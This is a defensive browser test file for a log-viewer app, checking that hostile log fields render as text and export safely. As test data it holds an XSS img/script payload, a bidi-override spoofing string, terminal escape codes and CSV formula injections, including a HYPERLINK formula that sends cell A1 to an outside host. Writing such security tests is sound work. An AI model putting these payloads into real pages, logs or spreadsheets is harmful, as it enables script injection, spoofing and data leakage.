import fs from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import { exhibit } from "../exhibit.ts";
import type { Launched } from "../host/launch.ts";
import { cellsOf } from "./csv.ts";
import { openDesk } from "./desk.ts";
import { counted, detail, filterBar, filterBy, grid } from "./explore.ts";

/** A log written by an attacker stays text wherever it is shown, and in what is exported. */

const desk = openDesk("hostile");
const folder = desk.place("case");
const HTML = `<img src=x onerror="window.struck=1"><script>window.struck=1</script>`;
/** Would show as `moc.evil` in place of what follows it. */
const BIDI = "api\u202Emoc.live\u202C\u200B";
const TERMINAL = "\u001b[2J\u001b]0;owned\u0007";
const FORMULA = `=HYPERLINK("http://x.test/?"&A1,"open")`;
const NAMES = [HTML, BIDI, TERMINAL, FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\u2028line"];
const LONG = "x".repeat(10_000_000);
let app: Launched;
const page = () => app.page;

beforeAll(async () => {
  const calls: Record<string, string>[] = NAMES.map((name, at) => ({
    time: `2019-01-01T00:00:0${at}Z`,
    app: `app-${at}`,
    developer: name,
    operation: name,
    user_agent: name,
    api: "groups",
  }));
  calls.push({
    time: "2019-01-02T00:00:00Z",
    app: "long",
    developer: "Long",
    operation: `GET /${LONG}`,
    api: "groups",
  });
  const log = desk.place("hostile.jsonl");
  fs.writeFileSync(log, calls.map((call) => `${JSON.stringify(call)}\n`).join(""));
  exhibit("create", folder, "--title", HTML, "--examiner", "R. Vale <vale@example.org>");
  expect(exhibit("import", folder, log).code).toBe(0);
  exhibit("tag", folder, "app:app-0", "--add", HTML, "--note", `${HTML}${BIDI}${TERMINAL}`);
  app = await desk.start(folder);
  await page().keyboard.press("Control+2");
  await counted(page());
});

/** What no log may put into the page. Elements of the page itself are none of these inside what shows log text. */
const struck = () =>
  page().evaluate(() => ({
    ran: "struck" in window,
    elements: document.querySelectorAll('img[src="x"], script:not([src]), bdi *:not(.control, .muted, mark, bdi)')
      .length,
    hidden: [
      ...[...document.querySelectorAll<HTMLElement>("header, main, footer")]
        .map((part) => part.innerText)
        .join()
        .matchAll(
          /.{0,20}[\u0000-\u0008\u000b\u000c\u000e-\u001f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/gu,
        ),
    ]
      .map(([found]) => JSON.stringify(found))
      // the grid's own announcement to screen readers ends in one
      .filter((found) => !found.endsWith('to select this row\u200b"')),
    title: /[\u0000-\u001f\u202e]/u.test(document.title),
  }));
const HARMLESS = { ran: false, elements: 0, hidden: [], title: false };

describe("a hostile log", () => {
  it("is text in rows and facets, with what cannot be seen shown by its number", async () => {
    const rows = grid(page()).getByRole("row");
    await rows.filter({ hasText: "<script>window.struck=1</script>" }).first().waitFor();
    await rows.filter({ hasText: "U+202E" }).first().waitFor();
    await rows.filter({ hasText: "U+001B" }).first().waitFor();
    await page().getByRole("navigation", { name: "Facets" }).getByText("<img src=x").first().waitFor();
    expect(await struck()).toEqual(HARMLESS);
  });

  it("is text in every panel of the detail", async () => {
    for (const name of NAMES.slice(0, 4).keys()) {
      await filterBy(page(), `app:app-${name}`);
      await grid(page()).getByRole("row").nth(1).click();
      await detail(page())
        .getByRole("button", { name: `app-${name}` })
        .waitFor();
      for (const tab of [/^Line/u, /^Near/u, /^Notes/u, /^Fields/u]) {
        await detail(page()).getByRole("tab", { name: tab }).click();
        await detail(page()).getByRole("tabpanel").waitFor();
        expect(await struck(), `app-${name} ${tab}`).toEqual(HARMLESS);
      }
    }
    await filterBy(page(), "app:app-0");
    await grid(page()).getByRole("row").nth(1).click();
    await detail(page()).getByRole("tab", { name: "Notes 1" }).click();
    await detail(page()).getByText("U+202E").first().waitFor();
    await detail(page()).getByRole("tab", { name: "Fields" }).click();
  });

  it("is literal in the filter: a value that is clicked matches itself alone", async () => {
    for (const [at, name] of NAMES.entries()) {
      await filterBy(page(), "");
      const box = page().getByRole("navigation", { name: "Facets" }).getByRole("region", { name: "Developer" });
      const more = box.getByRole("button", { name: /^\d+ more$/u });
      if (await more.count()) await more.click();
      await box.getByRole("checkbox").nth(0).waitFor();
      await box
        .getByRole("listitem")
        .filter({ has: page().getByText(shown(name), { exact: true }) })
        .getByRole("checkbox")
        .click();
      expect(await counted(page()), name).toBe(1);
      const text = await filterBar(page()).inputValue();
      const { events } = exhibit("query", folder, text, "--json").json<{ events: { app: string }[] }>();
      expect(events.map(({ app }) => app)).toEqual([`app-${at}`]);
      expect(await struck()).toEqual(HARMLESS);
    }
  });

  it("of ten megabytes in a cell is cut where it is shown, and the window stays quick", async () => {
    await filterBy(page(), "app:long");
    await grid(page()).getByRole("row").nth(1).click();
    for (const tab of [/^Line/u, /^Near/u, /^Fields/u]) {
      await detail(page()).getByRole("tab", { name: tab }).click();
      await detail(page())
        .getByText(/more .*characters/u)
        .first()
        .waitFor();
    }
    expect(await page().evaluate(() => document.documentElement.outerHTML.length)).toBeLessThan(2_000_000);
    await filterBar(page()).fill(`"${LONG.slice(0, 200_000)}"`);
    await page().keyboard.press("Enter");
    expect(await counted(page())).toBe(1);
  });

  it("exports no formula, and the exact text as JSON lines", async () => {
    await filterBy(page(), "-app:long");
    for (const [format, label] of [
      ["csv", /^CSV/u],
      ["jsonl", /^JSON lines/u],
    ] as const) {
      const file = desk.place(`calls.${format}`);
      await app.answer("showSaveDialog", { canceled: false, filePath: file });
      await page().keyboard.press("Control+e");
      await page().getByRole("dialog").getByText(label).click();
      await page()
        .getByRole("button", { name: /^Export \d+ calls$/u })
        .click();
      await page().getByRole("contentinfo").getByText(`Exported 9 calls: calls.${format}`).waitFor();
    }
    const [head = [], ...records] = cellsOf(fs.readFileSync(desk.place("calls.csv"), "utf8"));
    const developer = head.indexOf("developer");
    expect(records.map((record) => record[developer])).toEqual(
      NAMES.map((name) => (/^[=+\-@\t]/u.test(name) ? `'${name}` : name)),
    );
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/u.test(cell))).toEqual([]);
    const lines = fs.readFileSync(desk.place("calls.jsonl"), "utf8").trimEnd().split("\n");
    expect(lines.map((line) => (JSON.parse(line) as { developer: string }).developer)).toEqual(NAMES);
  });

  it("is text on every other screen", async () => {
    for (let key = 1; key <= 9; key += 1) {
      await page().keyboard.press(`Control+${key}`);
      await page().getByRole("heading", { level: 1 }).first().waitFor({ state: "attached" });
      await page().waitForTimeout(200);
      expect(await struck(), `screen ${key}`).toEqual(HARMLESS);
    }
  });
});

/** As the page shows it: what cannot be seen by its number. */
const shown = (text: string) =>
  text.replace(
    /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu,
    (each) => `U+${each.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}`,
  );
